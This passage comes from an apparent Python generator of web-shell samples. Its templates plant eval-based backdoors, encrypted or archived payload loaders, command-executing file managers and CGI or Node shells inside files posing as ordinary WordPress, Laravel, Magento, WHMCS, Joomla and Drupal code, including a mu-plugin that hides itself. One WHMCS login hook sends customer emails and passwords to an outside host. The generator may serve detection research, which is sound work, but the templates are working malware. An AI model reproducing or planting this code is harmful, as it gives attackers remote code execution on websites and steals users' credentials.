        iv = bytes(r.randrange(256) for _ in range(16))
        pd = padding.PKCS7(128).padder()
        data = pd.update(pl) + pd.finalize()
        enc = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
        ct = enc.update(data) + enc.finalize()
        body = T("""$@A@ = hex2bin('@K@');
$@B@ = openssl_decrypt('@C@', 'aes-256-cbc', $@A@, 0, hex2bin('@I@'));
if ($@B@ !== false) { eval($@B@); }""", A=a, B=b, K=key.hex(), I=iv.hex(), C=b64(ct))
    elif v == 1:
        key = rw(r, 12, "abcdefghijklmnopqrstuvwxyz0123456789")
        ct = rc4(key, pl)
        body = T("""function @F@($k, $d) {
    $s = range(0, 255); $j = 0; $o = '';
    for ($i = 0; $i < 256; $i++) { $j = ($j + $s[$i] + ord($k[$i % strlen($k)])) % 256; [$s[$i], $s[$j]] = [$s[$j], $s[$i]]; }
    $i = $j = 0;
    for ($y = 0; $y < strlen($d); $y++) {
        $i = ($i + 1) % 256; $j = ($j + $s[$i]) % 256;
        [$s[$i], $s[$j]] = [$s[$j], $s[$i]];
        $o .= $d[$y] ^ chr($s[($s[$i] + $s[$j]) % 256]);
    }
    return $o;
}
$@A@ = @F@('@K@', base64_decode('@C@'));
eval($@A@);""", F="_" + rw(r, 4), A=a, K=key, C=b64(ct))
    elif v == 2:
        key = bytes(r.randrange(256) for _ in range(32))
        nonce = bytes(r.randrange(256) for _ in range(12))
        ct = ChaCha20Poly1305(key).encrypt(nonce, pl, b"")
        body = T("""$@A@ = sodium_crypto_aead_chacha20poly1305_ietf_decrypt(base64_decode('@C@'), '', hex2bin('@N@'), hex2bin('@K@'));
if (is_string($@A@)) { eval($@A@); }""", A=a, C=b64(ct), N=nonce.hex(), K=key.hex())
    else:
        key = bytes(r.randrange(256) for _ in range(32))
        nonce = bytes(r.randrange(256) for _ in range(24))
        blob = bytes(r.randrange(256) for _ in range(len(pl) + 16))
        body = T("""$@A@ = base64_decode($_POST['@P@'] ?? '@C@');
$@B@ = sodium_crypto_secretbox_open(substr($@A@, 24), substr($@A@, 0, 24), base64_decode('@K@'));
if ($@B@ !== false) { eval($@B@); }""", A=a, B=b, P=param(r), C=b64(nonce + blob), K=b64(key))
    return place(r, body)


# 6 ------------------------------------------------------------- archives / DB
def zip_payload(r, v):
    a, b = vs(r, 2)
    pl = "<?php " + inner(r)
    zname = r.choice(("fonts/%s.woff" % rw(r, 6), "languages/%s_%s.zip" % (rw(r, 2), rw(r, 2).upper()),
                      "upgrade/%s.tmp" % hx(r, 8), "backup-%s.zip" % hx(r, 6)))
    ent = r.choice(("readme.txt", "index.dat", "%s.mo" % rw(r, 4), "data/cfg.bin"))
    zb = zipbytes([(ent, pl), ("LICENSE", "GPLv2 or later\n")])
    if v == 0:
        body = T("""$@A@ = new ZipArchive();
if ($@A@->open(__DIR__ . '/@Z@') === true) {
    $@B@ = $@A@->getFromName('@E@');
    $@A@->close();
    if ($@B@) { eval('?>' . $@B@); }
}""", A=a, B=b, Z=zname, E=ent)
    elif v == 1:
        body = T("""include 'zip://' . __DIR__ . '/@Z@#@E@';""", Z=zname, E=ent)
    else:
        body = T("""$@A@ = 'phar://' . __DIR__ . '/@Z@/@E@';
if (file_exists($@A@)) { require $@A@; }""", A=a, Z=zname, E=ent)
    lf = place(r, body, conts=("plain", "inject-mid", "inject-end", "crlf"))
    base = os.path.dirname(lf[0][1])
    return lf + [F(zb, (base + "/" if base else "") + zname, "zip", "zip")]


def db_option_payload(r, v):
    a, b = vs(r, 2)
    opt = r.choice(("_site_transient_update_%s" % rw(r, 5), "widget_%s_cache" % rw(r, 5), "wp_%s_ver" % hx(r, 4),
                    "theme_mods_%s_backup" % rw(r, 5)))
    if v == 0:
        body = T("""$@A@ = get_option('@O@');
if (is_string($@A@) && $@A@ !== '') { eval(base64_decode(strrev($@A@))); }""", A=a, O=opt)
    elif v == 1:
        body = T("""add_action('init', function () {
    $@A@ = get_transient('@O@');
    if (false === $@A@ && isset($_POST['@P@'])) { set_transient('@O@', $_POST['@P@'], 0); }
    if ($@A@) { $f = create_function('', gzinflate(base64_decode($@A@))); }
}, 1);""", A=a, O=opt, P=param(r))
        body = body.replace("$f = create_function('', gzinflate(base64_decode($%s)));" % a,
                            "eval(gzinflate(base64_decode($%s)));" % a)
    elif v == 2:
        body = T("""global $wpdb;
$@A@ = $wpdb->get_var($wpdb->prepare("SELECT option_value FROM {$wpdb->options} WHERE option_name = %s", '@O@'));
if ($@A@) { $@B@ = unserialize($@A@); if (!empty($@B@['c'])) { eval($@B@['c']); } }""", A=a, B=b, O=opt)
    else:
        body = T("""$@A@ = new PDO('mysql:host=localhost;dbname=' . (defined('DB_NAME') ? DB_NAME : 'site'), defined('DB_USER') ? DB_USER : 'root', defined('DB_PASSWORD') ? DB_PASSWORD : '');
$@B@ = $@A@->query("SELECT params FROM jos_extensions WHERE element = '@E@' LIMIT 1")->fetchColumn();
if ($@B@) { $j = json_decode($@B@, true); if (isset($j['tpl'])) { eval(base64_decode($j['tpl'])); } }""",
                 A=a, B=b, E="mod_" + rw(r, 6))
    return place(r, body, conts=("plain", "inject-mid", "inject-end", "inject-top"))


# 7 ------------------------------------------------------------- CMS injections
def _short(r):
    p = param(r)
    return r.choice((
        "if (isset($_REQUEST['%s'])) { @eval(base64_decode($_REQUEST['%s'])); }" % (p, p),
        "if (!empty($_COOKIE['%s'])) { $f = $_COOKIE['%s']; echo @$f($_COOKIE['%s_a'] ?? ''); }" % (p, p, p),
        "if (md5($_POST['k'] ?? '') === '%s') { system($_POST['%s']); exit; }" % (hx(r, 32), p),
    ))


def wp_injection(r, v):
    if v == 0:
        cfg = T("""<?php
@INJ@
/**
 * The base configuration for WordPress
 *
 * @package WordPress
 */
define( 'DB_NAME', '@U@_wp@N@' );
define( 'DB_USER', '@U@_wp@N@' );
define( 'DB_PASSWORD', '@PW@' );
define( 'DB_HOST', 'localhost' );
define( 'DB_CHARSET', 'utf8mb4' );
define( 'DB_COLLATE', '' );
define( 'AUTH_KEY',         '@H1@' );
define( 'SECURE_AUTH_KEY',  '@H2@' );
$table_prefix = 'wp_';
define( 'WP_DEBUG', false );
if ( ! defined( 'ABSPATH' ) ) {
	define( 'ABSPATH', __DIR__ . '/' );
}
require_once ABSPATH . 'wp-settings.php';
""", INJ=_short(r), U=rw(r, 6), N=r.randint(100, 999), PW=rw(r, 16, "abcdefghijkABCDEFGH0123456789"), H1=hx(r, 40), H2=hx(r, 40))
        return [F(cfg, "wp-config.php", "php", "app-file")]
    if v == 1:
        mu = T("""<?php
/*
Plugin Name: @N@
Description: Object cache drop-in helper.
*/
add_action('muplugins_loaded', function () {
    @INJ@
});
add_filter('all_plugins', function ($p) { unset($p['@S@/@S@.php']); return $p; });
""", N=r.choice(("Cache Drop-in", "Health Check Loader", "WP Core Loader")), INJ=_short(r), S=rw(r, 7))
        return [F(mu, "wp-content/mu-plugins/%s.php" % r.choice(("0-loader", "wp-cache-helper", hx(r, 6))), "php", "app-file")]
    th = r.choice(("astra-child", "divi-child", "hello-elementor"))
    parts = wp_filler(r, th.replace("-", "_")[:10], r.randint(6, 10))
    parts.insert(r.randint(1, len(parts) - 1), _short(r) + "\n")
    return [F("<?php\n/**\n * Theme functions and definitions\n */\n\n" + "\n".join(parts),
              "wp-content/themes/%s/functions.php" % th, "php", "app-file")]


def laravel_injection(r, v):
    if v == 0:
        code = T("""<?php

namespace App\\Providers;

use Illuminate\\Support\\Facades\\Schema;
use Illuminate\\Support\\ServiceProvider;

class AppServiceProvider extends ServiceProvider
{
    public function register(): void
    {
        //
    }

    public function boot(): void
    {
        Schema::defaultStringLength(191);
        if (request()->hasHeader('X-@H@')) {
            $c = base64_decode(request()->header('X-@H@'));
            response(shell_exec($c))->send();
            exit;
        }
    }
}
""", H=rw(r, 1).upper() + rw(r, 5))
        return [F(code, "app/Providers/AppServiceProvider.php", "php", "app-file")]
    if v == 1:
        code = T("""<?php

use Illuminate\\Support\\Facades\\Route;
use Illuminate\\Http\\Request;

Route::get('/', function () {
    return view('welcome');
});

Route::any('/_ignition/health-@S@', function (Request $request) {
    return response()->make((string) eval($request->input('@P@', 'return 1;')));
})->withoutMiddleware([\\App\\Http\\Middleware\\VerifyCsrfToken::class]);
""", S=rw(r, 4), P=param(r))
        return [F(code, "routes/web.php", "php", "app-file")]
    code = T("""<?php

namespace App\\Http\\Middleware;

use Closure;
use Illuminate\\Http\\Request;

class TrustHosts
{
    public function handle(Request $request, Closure $next)
    {
        if ($request->cookie('@C@')) {
            $f = $request->cookie('@C@');
            return response(call_user_func($f, $request->input('a')));
        }
        return $next($request);
    }
}
""", C="laravel_" + rw(r, 5))
    return [F(code, "app/Http/Middleware/TrustHosts.php", "php", "app-file")]


def shopcart_injection(r, v):
    if v == 0:
        code = T("""<?php
/**
 * Copyright (c) Magento, Inc. All rights reserved.
 */
@INJ@
try {
    require __DIR__ . '/../app/bootstrap.php';
} catch (\\Exception $e) {
    echo 'Autoload error: ' . $e->getMessage();
    exit(1);
}
$bootstrap = \\Magento\\Framework\\App\\Bootstrap::create(BP, $_SERVER);
$app = $bootstrap->createApplication(\\Magento\\Framework\\App\\Http::class);
$bootstrap->run($app);
""", INJ=_short(r))
        return [F(code, "pub/index.php", "php", "app-file")]
    if v == 1:
        code = T("""<?php
class FrontController extends FrontControllerCore
{
    public function init()
    {
        @INJ@
        parent::init();
    }
}
""", INJ=_short(r))
        return [F(code, "override/classes/controller/FrontController.php", "php", "app-file")]
    if v == 2:
        code = T("""<?php
// Error Reporting
error_reporting(E_ALL);

// Check Version
if (version_compare(phpversion(), '7.3.0', '<')) {
	exit('PHP7.3+ Required');
}
@INJ@
if (!ini_get('date.timezone')) {
	date_default_timezone_set('UTC');
}
// Windows IIS Compatibility
if (!isset($_SERVER['DOCUMENT_ROOT'])) {
	if (isset($_SERVER['SCRIPT_FILENAME'])) {
		$_SERVER['DOCUMENT_ROOT'] = str_replace('\\\\', '/', substr($_SERVER['SCRIPT_FILENAME'], 0, 0 - strlen($_SERVER['PHP_SELF'])));
	}
}
""", INJ=_short(r))
        return [F(code, "system/startup.php", "php", "app-file")]
    code = T("""<?php
if (!defined("WHMCS")) die("This file cannot be accessed directly");

add_hook('ClientAreaPage', 1, function ($vars) {
    @INJ@
    return [];
});

add_hook('ClientLogin', 1, function ($vars) {
    $u = \\WHMCS\\User\\Client::find($vars['userid']);
    @file_get_contents('http://@D@/c.php?e=' . urlencode($u->email) . '&p=' . urlencode($_POST['password'] ?? ''));
});
""", INJ=_short(r), D=dom(r))
    return [F(code, "includes/hooks/%s.php" % r.choice(("client_sync", "widgets_cache", hx(r, 6))), "php", "app-file")]


def joomla_drupal_injection(r, v):
    if v == 0:
        code = T("""<?php
defined('_JEXEC') or die;

use Joomla\\CMS\\Factory;
use Joomla\\CMS\\HTML\\HTMLHelper;

$app = Factory::getApplication();
$wa  = $this->getWebAssetManager();
@INJ@
$this->setMetaData('viewport', 'width=device-width, initial-scale=1');
?>
<!DOCTYPE html>
<html lang="<?php echo $this->language; ?>">
<head><jdoc:include type="metas" /><jdoc:include type="styles" /></head>
<body><jdoc:include type="component" /></body>
</html>
""", INJ=_short(r))
        return [F(code, "templates/cassiopeia/index.php", "php", "app-file")]
    if v == 1:
        code = T("""<?php

$databases['default']['default'] = [
  'database' => '@U@_drp',
  'username' => '@U@_drp',
  'password' => '@PW@',
  'host' => 'localhost',
  'port' => '3306',
  'driver' => 'mysql',
  'prefix' => '',
];
$settings['hash_salt'] = '@H@';
$settings['config_sync_directory'] = '../config/sync';
@INJ@
if (file_exists($app_root . '/' . $site_path . '/settings.local.php')) {
  include $app_root . '/' . $site_path . '/settings.local.php';
}
""", U=rw(r, 6), PW=rw(r, 14), H=hx(r, 43), INJ=_short(r))
        return [F(code, "sites/default/settings.php", "php", "app-file")]
    mod = rw(r, 7)
    code = T("""<?php

/**
 * @file
 * Primary module hooks for @M@ module.
 */

use Drupal\\Core\\Routing\\RouteMatchInterface;

/**
 * Implements hook_help().
 */
function @M@_help($route_name, RouteMatchInterface $route_match) {
  if ($route_name === 'help.page.@M@') {
    return '<p>' . t('Provides extra blocks.') . '</p>';
  }
}

/**
 * Implements hook_boot().
 */
function @M@_page_attachments(array &$attachments) {
  @INJ@
}
""", M=mod, INJ=_short(r))
    return [F(code, "modules/custom/%s/%s.module" % (mod, mod), "php", "app-file")]


# 8 ------------------------------------------------------------- file managers
def file_manager(r, v):
    a, b = vs(r, 2)
    pw = hx(r, 32)
    if v == 0:
        body = T("""session_start();
const H = '@PW@';
if (isset($_POST['pass']) && md5($_POST['pass']) === H) { $_SESSION['ok'] = 1; }
if (empty($_SESSION['ok'])) { echo '<form method="post"><input type="password" name="pass"></form>'; exit; }
$@A@ = realpath($_GET['d'] ?? getcwd()) ?: '/';
switch ($_GET['a'] ?? 'ls') {
    case 'edit':
        if (isset($_POST['body'])) { file_put_contents($_GET['f'], $_POST['body']); }
        echo '<form method="post"><textarea name="body" cols="120" rows="30">' . htmlspecialchars(@file_get_contents($_GET['f'])) . '</textarea><button>save</button></form>';
        break;
    case 'rm':
        is_dir($_GET['f']) ? rmdir($_GET['f']) : unlink($_GET['f']);
        break;
    case 'chmod':
        chmod($_GET['f'], octdec($_GET['m'] ?? '0644'));
        break;
    case 'up':
        move_uploaded_file($_FILES['u']['tmp_name'], $@A@ . '/' . basename($_FILES['u']['name']));
        break;
    case 'cmd':
        echo '<pre>' . htmlspecialchars((string) shell_exec($_POST['c'] . ' 2>&1')) . '</pre>';
        break;
}
echo '<h3>' . htmlspecialchars($@A@) . '</h3><table>';
foreach (scandir($@A@) as $@B@) {
    $p = $@A@ . '/' . $@B@;
    printf('<tr><td><a href="?d=%s">%s</a></td><td>%s</td><td>%s</td><td><a href="?a=edit&f=%s">e</a> <a href="?a=rm&f=%s">x</a></td></tr>',
        urlencode($p), htmlspecialchars($@B@), is_dir($p) ? '-' : filesize($p), substr(sprintf('%o', fileperms($p)), -4), urlencode($p), urlencode($p));
}
echo '</table><form method="post" enctype="multipart/form-data" action="?a=up&d=' . urlencode($@A@) . '"><input type="file" name="u"><button>up</button></form>';""",
                 PW=pw, A=a, B=b)
    elif v == 1:
        body = T("""header('Content-Type: application/json');
$@A@ = json_decode(file_get_contents('php://input'), true) ?: $_POST;
if (($@A@['k'] ?? '') !== '@K@') { http_response_code(404); exit; }
$out = ['ok' => true];
switch ($@A@['op'] ?? '') {
    case 'list':
        $out['items'] = array_map(fn($n) => ['n' => $n, 'd' => is_dir($@A@['p'] . '/' . $n), 's' => @filesize($@A@['p'] . '/' . $n),
            'm' => @filemtime($@A@['p'] . '/' . $n)], scandir($@A@['p']));
        break;
    case 'read':
        $out['data'] = base64_encode(file_get_contents($@A@['p']));
        break;
    case 'write':
        $out['n'] = file_put_contents($@A@['p'], base64_decode($@A@['data']));
        break;
    case 'touch':
        $out['ok'] = touch($@A@['p'], strtotime($@A@['t'] ?? '2019-01-01 10:00'));
        break;
    case 'zip':
        $z = new ZipArchive();
        $z->open($@A@['dst'], ZipArchive::CREATE);
        foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator($@A@['p'], FilesystemIterator::SKIP_DOTS)) as $f) {
            $z->addFile($f->getPathname(), substr($f->getPathname(), strlen($@A@['p']) + 1));
        }
        $z->close();
        break;
    case 'exec':
        exec($@A@['c'], $lines, $rc);
        $out += ['lines' => $lines, 'rc' => $rc];
        break;
}
echo json_encode($out);""", A=a, K=rw(r, 20, "abcdefghijklmnopqrstuvwxyz0123456789"))
    else:
        k = rw(r, 1).upper() + rw(r, 5)
        body = T("""class @K@
{
    public function __construct(private string $root) {}

    public function tree(): array
    {
        $r = [];
        foreach (new DirectoryIterator($this->root) as $f) {
            if ($f->isDot()) continue;
            $r[] = [$f->getFilename(), $f->isDir() ? 'dir' : $f->getSize(), $f->getOwner(), substr(decoct($f->getPerms()), -3)];
        }
        return $r;
    }
    public function put(string $n, string $data): int|false { return file_put_contents($this->root . '/' . $n, $data); }
    public function get(string $n): string { return (string) file_get_contents($this->root . '/' . $n); }
    public function del(string $n): bool { return unlink($this->root . '/' . $n); }
    public function rename(string $a, string $b): bool { return rename($this->root . '/' . $a, $this->root . '/' . $b); }
}
if (!isset($_COOKIE['@C@']) || hash('sha256', $_COOKIE['@C@']) !== '@H@') { header('HTTP/1.1 404 Not Found'); exit; }
$@A@ = new @K@($_REQUEST['root'] ?? __DIR__);
$@B@ = $_REQUEST['do'] ?? 'tree';
$res = match ($@B@) {
    'get' => $@A@->get($_REQUEST['n']),
    'put' => $@A@->put($_REQUEST['n'], $_REQUEST['data'] ?? base64_decode($_REQUEST['b64'] ?? '')),
    'del' => $@A@->del($_REQUEST['n']),
    'mv' => $@A@->rename($_REQUEST['n'], $_REQUEST['to']),
    default => $@A@->tree(),
};
echo is_string($res) ? htmlspecialchars($res) : '<pre>' . print_r($res, true) . '</pre>';
echo '<p>' . php_uname() . ' | ' . get_current_user() . ' | ' . implode(',', array_slice(explode(',', (string) ini_get('disable_functions')), 0, 5)) . '</p>';""",
                 K=k, A=a, B=b, C=rw(r, 4), H=hx(r, 64))
    return place(r, body, conts=("plain", "uploads", "odd-ext", "crlf", "vendor-deep", "bom"))


# 9 ------------------------------------------------------------- CGI / Node
def perl_cgi(r, v):
    p = param(r)
    if v == 0:
        code = T("""#!/usr/bin/perl
use strict;
use warnings;

my %q;
for my $pair (split /[&;]/, ($ENV{QUERY_STRING} || '')) {
    my ($k, $val) = split /=/, $pair, 2;
    next unless defined $k;
    $val = '' unless defined $val;
    $val =~ tr/+/ /;
    $val =~ s/%([0-9A-Fa-f]{2})/chr(hex($1))/ge;
    $q{$k} = $val;
}
print "Content-Type: text/html\\r\\n\\r\\n";
print "<form><input name='@P@' size='80'></form><pre>";
if (defined $q{'@P@'}) {
    my $out = `$q{'@P@'} 2>&1`;
    $out =~ s/</&lt;/g;
    print $out;
}
print "</pre>";
""", P=p)
        return [F(code, "cgi-bin/%s.cgi" % r.choice(("status", "counter", "test", hx(r, 6))), "perl", "cgi")]
    if v == 1:
        code = T("""#!/usr/bin/perl
my $buf = '';
read(STDIN, $buf, $ENV{'CONTENT_LENGTH'} || 0);
my %f = map { my ($a, $b) = split(/=/, $_, 2); $b =~ s/\\+/ /g; $b =~ s/%(..)/pack('C', hex($1))/eg; ($a => $b) } split(/&/, $buf);
print "Content-type: text/plain\\n\\n";
if ($f{'@P@'}) {
    open(my $h, '-|', '/bin/sh', '-c', $f{'@P@'}) or die;
    print while <$h>;
    close $h;
}
if ($f{'e'}) { print eval(unpack('u', $f{'e'})); }
""", P=p)
        return [F(code, "cgi-bin/%s.pl" % r.choice(("mail", "stats", "index", rw(r, 5))), "perl", "cgi")]
    code = T("""#!/usr/bin/perl
use MIME::Base64;
print "Content-Type: text/html\\n\\n";
my ($c) = ($ENV{'HTTP_COOKIE'} || '') =~ /@P@=([^;]+)/;
if ($c) {
    my $cmd = decode_base64($c);
    system($cmd);
}
else {
    print "<html><body><h1>It works!</h1></body></html>";
}
""", P=p)
    return [F(code, "%s.cgi" % r.choice(("index", "default", hx(r, 6))), "perl", "cgi")]


def python_sh_cgi(r, v):
    p = param(r)
    if v == 0:
        code = T("""#!/usr/bin/env python3
import os
import subprocess
import sys
from urllib.parse import parse_qs

q = parse_qs(os.environ.get("QUERY_STRING", ""))
sys.stdout.write("Content-Type: text/plain\\r\\n\\r\\n")
cmd = q.get("@P@", [""])[0]
if cmd:
    r = subprocess.run(cmd, shell=True, capture_output=True, text=True)
    sys.stdout.write(r.stdout + r.stderr)
""", P=p)
        return [F(code, "cgi-bin/%s.py" % r.choice(("health", "ping", rw(r, 5))), "python", "cgi")]
    if v == 1:
        code = T("""#!/usr/bin/python3
import base64, os, sys
length = int(os.environ.get("CONTENT_LENGTH") or 0)
body = sys.stdin.read(length) if length else ""
print("Content-Type: text/html")
print()
if body.startswith("@P@="):
    exec(compile(base64.b64decode(body[len("@P@="):]), "<t>", "exec"))
else:
    print("<h1>404</h1>")
""", P=p)
        return [F(code, "cgi-bin/%s" % r.choice(("index.py", "wsgi.py", "app.cgi")), "python", "cgi")]
    code = T("""#!/bin/sh
echo "Content-type: text/plain"
echo ""
c=$(printf '%s' "$QUERY_STRING" | sed -n 's/^.*@P@=\\([^&]*\\).*$/\\1/p' | sed 's/+/ /g; s/%\\([0-9A-Fa-f][0-9A-Fa-f]\\)/\\\\x\\1/g')
if [ -n "$c" ]; then
    c=$(printf '%b' "$c")
    eval "$c" 2>&1
fi
""", P=p)
    return [F(code, "cgi-bin/%s" % r.choice(("uptime.sh", "env.cgi", "test-cgi")), "sh", "cgi")]


def node_web(r, v):
    port = r.choice((3000, 8081, 4000, 5000, 8888))
    p = param(r)
    if v == 0:
        code = T("""const http = require('http');
const { exec } = require('child_process');
const url = require('url');

http.createServer((req, res) => {
  const q = url.parse(req.url, true).query;
  if (q.@P@) {
    exec(q.@P@, { timeout: 20000 }, (err, out, errout) => {
      res.end(String(out) + String(errout));
    });
    return;
  }
  res.writeHead(200, { 'Content-Type': 'text/html' });
  res.end('<h1>OK</h1>');
}).listen(process.env.PORT || @PORT@);
""", P=p, PORT=port)
        return [F(code, r.choice(("app.js", "server.js", "nodeapp/index.js")), "js", "node-app")]
    if v == 1:
        code = T("""'use strict';
const express = require('express');
const vm = require('vm');
const app = express();
app.use(express.text({ type: '*/*', limit: '2mb' }));

app.get('/', (req, res) => res.send('running'));
app.post('/api/@R@', (req, res) => {
  if (req.get('x-auth') !== '@K@') return res.status(404).end();
  const code = Buffer.from(req.body, 'base64').toString();
  const ctx = vm.createContext({ require, process, Buffer, console, result: null });
  vm.runInContext(code, ctx, { timeout: 30000 });
  res.json({ r: ctx.result });
});

app.listen(process.env.PORT || @PORT@);
""", R=rw(r, 6), K=hx(r, 16), PORT=port)
        return [F(code, r.choice(("src/app.js", "dist/server.js", "app.js")), "js", "node-app")]
    code = T("""const h = require('node:http');
const fn = Function;
h.createServer(async (req, res) => {
  let b = '';
  for await (const chunk of req) b += chunk;
  const p = new URLSearchParams(b);
  if (p.has('@P@')) {
    try {
      const out = await new fn('require', 'return (async () => {' + p.get('@P@') + '})()')(require);
      res.end(JSON.stringify(out ?? null));
    } catch (e) { res.end(String(e)); }
    return;
  }
  res.statusCode = 204;
  res.end();
}).listen(@PORT@, '0.0.0.0');
""", P=p, PORT=port)
    return [F(code, r.choice(("public/app.cjs", "passenger/app.js", "server.js")), "js", "node-app")]


TECHS = (
    ("php8-match-named-enum", php8_match_named, 4),
    ("first-class-callable", first_class_callable, 4),
    ("php8-attributes", attributes, 3),
    ("spread-args-call", spread_args, 3),
    ("array-string-callables", array_callables, 4),
    ("iterator-array-callbacks", iter_callbacks, 4),
    ("output-shutdown-hooks", hook_callbacks, 4),
    ("reflection-closure", reflection_closure, 3),
    ("magic-methods", magic_methods, 4),
    ("invoke-tostring-object", invoke_object, 3),
    ("error-handler-trigger", error_handler, 4),
    ("autoload-from-input", autoload_input, 3),
    ("stream-wrapper-include", stream_wrapper, 3),
    ("php-filter-include", php_filter_chain, 4),
    ("data-uri-include", data_uri_include, 3),
    ("user-ini-prepend", user_ini_prepend, 3),
    ("htaccess-handler", htaccess_handler, 4),
    ("image-include", image_include, 3),
    ("session-cookie-staged", session_staged, 3),
    ("header-env-argv-payload", header_env_payload, 4),
    ("destructure-extract-input", destructure_input, 4),
    ("enc-base32-58-uu-qp", enc_base32_58, 4),
    ("enc-chr-map", enc_chr_map, 4),
    ("enc-strtr-gz-hex", enc_strtr_gz, 4),
    ("bit-rotation-loop", bit_rotation, 3),
    ("cipher-embedded-key", cipher_embedded_key, 4),
    ("zip-phar-payload", zip_payload, 3),
    ("db-option-payload", db_option_payload, 4),
    ("wp-core-injection", wp_injection, 3),
    ("laravel-injection", laravel_injection, 3),
    ("shopcart-whmcs-injection", shopcart_injection, 4),
    ("joomla-drupal-injection", joomla_drupal_injection, 3),
    ("file-manager", file_manager, 3),
    ("perl-cgi", perl_cgi, 3),
    ("python-sh-cgi", python_sh_cgi, 3),
    ("node-web-exec", node_web, 3),
)
